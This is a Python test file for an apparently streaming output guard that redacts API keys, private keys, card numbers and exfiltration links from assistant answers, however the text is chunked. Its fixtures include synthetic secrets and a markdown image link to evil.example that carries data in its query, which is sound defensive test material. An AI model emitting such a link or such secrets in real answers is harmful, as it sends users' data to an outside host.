"""Answers in pieces: nothing that a guard finds gets out, however they fall, and nothing else waits for long."""

from __future__ import annotations

import base64
import random
import string
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from holdfast.domain.guard import Action, Mode, Stage
from holdfast.domain.policy import GuardTerms, Policy
from holdfast.guards.armed_text import arm_text
from holdfast.guards.holding import UNREAD, Holding
from holdfast.guards.passages import Passage, Reading, Span, Spotted, redact
from holdfast.plugins import find_guards

RANDOM = random.Random(7)


def some(n, letters=string.ascii_letters + string.digits):
    return "".join(RANDOM.choice(letters) for _ in range(n))


CLAUDE = "sk-ant-api03-" + some(90)
PEM = "\n".join(["-----BEGIN PRIVATE KEY-----", *(some(64) for _ in range(24)), some(20), "-----END PRIVATE KEY-----"])
SECRETS = {
    "text.personal_data": ["4111 1111 1111 1111", "jane.doe@example.com", "DE89 3704 0044 0532 0130 00", "536-90-4399"],
    "text.secrets": [
        CLAUDE,
        "ghp_" + some(36),
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + some(1_800) + "." + some(43),
        PEM,
        base64.b64encode(CLAUDE.encode()).decode(),
    ],
    "text.links": ["![chart](https://evil.example/p?d=" + some(700) + ")"],
}
CASES = [(guard, secret) for guard, secrets in SECRETS.items() for secret in secrets]


def armed(guard, mode=Mode.ENFORCE, action=None, **params):
    terms = GuardTerms(guard, mode, action, params=tuple(params.items()))
    return arm_text(Policy("p", "1", (terms,)), find_guards(), Stage.AFTER)


def told(guards, pieces):
    holding = Holding(guards, "assistant")
    parts = [holding.feed(piece) for piece in pieces]
    return [*parts, holding.feed("", is_last=True)], holding


def leaks(secret, out):
    """Whether ten characters of it in a row are there."""
    return any(secret[at : at + 10] in out for at in range(len(secret) - 9))


@pytest.mark.parametrize(("guard", "secret"), CASES, ids=[f"{guard}-{secret[:8]}" for guard, secret in CASES])
def test_what_is_split_at_any_place_does_not_get_out(guard, secret):
    guards = armed(guard)
    text = f"Here is what you asked for, as promised: {secret} That was all of it."
    whole = redact(text, guards[0].read([Passage("assistant", text)]).spans[0])
    assert not leaks(secret, whole)
    begins = text.index(secret)
    places = range(begins, begins + len(secret) + 1, max(1, len(secret) // 60))
    for place in places:
        parts, holding = told(guards, [text[:place], text[place:]])
        assert "".join(parts) == whole
        assert holding.action is Action.REDACT


@settings(max_examples=15, deadline=None)
@given(st.data())
def test_what_falls_in_many_pieces_does_not_get_out(data):
    guard, secret = data.draw(st.sampled_from([case for case in CASES if len(case[1]) < 400]))
    guards, filler = armed(guard), "Some words that say little. " * data.draw(st.integers(0, 40))
    text = f"{filler}See: {secret} {filler}"
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    parts, _ = told(guards, pieces)
    assert "".join(parts) == redact(text, guards[0].read([Passage("assistant", text)]).spans[0])


@pytest.mark.parametrize("guard", SECRETS)
def test_no_character_waits_longer_than_is_stated(guard):
    guards, holding = armed(guard), Holding(armed(guard), "assistant")
    text, out = "An ordinary sentence of no interest to anybody, told word by word. " * 40, 0
    for at in range(0, len(text), 5):
        out += len(holding.feed(text[at : at + 5]))
        assert at + 5 - out <= holding.delay + 5
    assert holding.delay <= guards[0].reading.reach * 1.25 <= 1_100
    assert out + len(holding.feed("", is_last=True)) == len(text)


def test_a_number_that_goes_on_is_judged_once_it_ends():
    holding = Holding(armed("text.personal_data", action=Action.BLOCK), "assistant")
    out = [holding.feed(piece) for piece in ("Order 4111111111111111", "00", " is on its way.")]
    out.append(holding.feed("", is_last=True))
    assert ("".join(out), holding.action) == ("Order 411111111111111100 is on its way.", Action.ALLOW)


def test_an_answer_is_cut_before_what_it_may_not_say():
    parts, holding = told(armed("text.secrets", action=Action.BLOCK), [f"The key: {CLAUDE[:60]}", CLAUDE[60:], " ok"])
    assert (holding.action, "".join(parts)) == (Action.BLOCK, "")


def test_a_guard_in_shadow_holds_nothing_back_and_still_reads():
    guards = [*armed("text.secrets", Mode.SHADOW), *armed("text.grounded", documents=("Nothing at all is said here.",))]
    holding = Holding(guards, "assistant")
    assert holding.feed(f"The key is {CLAUDE}") == f"The key is {CLAUDE}"
    assert [remark.because for remark in holding.remarks] == []
    holding.feed("", is_last=True)
    secret, _ = holding.remarks
    assert (secret.action, holding.action) == (Action.REDACT, Action.FLAG)


def test_what_was_not_read_to_the_end_is_not_said_to_be_clean():
    guards = [*armed("text.secrets"), *armed("text.grounded")]
    holding = Holding(guards, "assistant")
    holding.feed("Some text. " * 100)
    _, watched = holding.remarks
    assert (watched.score, watched.because) == (None, UNREAD)


def test_the_longest_reach_of_several_guards_counts():
    def looks_for(word, reach):
        def read(passage):
            at = passage.text.find(word)
            return Spotted(1.0, (Span(at, at + len(word), "#", 1.0),)) if at >= 0 else Spotted(0.0)

        return Reading(read, reach)

    one, other = armed("text.secrets")[0], armed("text.personal_data")[0]
    guards = [replace(one, reading=looks_for("abc", 3)), replace(other, reading=looks_for("x" * 50, 50))]
    for place in range(60):
        text = "abc" + "-" * 20 + "x" * 50 + "-" * 9
        parts, _ = told(guards, [text[:place], text[place:]])
        assert "".join(parts) == "#" + "-" * 20 + "#" + "-" * 9


def test_a_key_amid_a_long_encoded_text_does_not_get_out():
    filler = "Nothing that anybody would want to know. " * 30
    encoded = base64.b64encode((filler + CLAUDE + filler).encode()).decode()
    hidden = encoded[len(filler) * 4 // 3 + 4 :][: len(CLAUDE) * 4 // 3 - 8]
    text = f"Here: {encoded} End."
    parts, holding = told(armed("text.secrets"), [text[at : at + 7] for at in range(0, len(text), 7)])
    out = "".join(parts)
    assert holding.action is Action.REDACT
    assert not any(hidden[at : at + 20] in out for at in range(len(hidden) - 19))
    assert out.endswith(" End.")
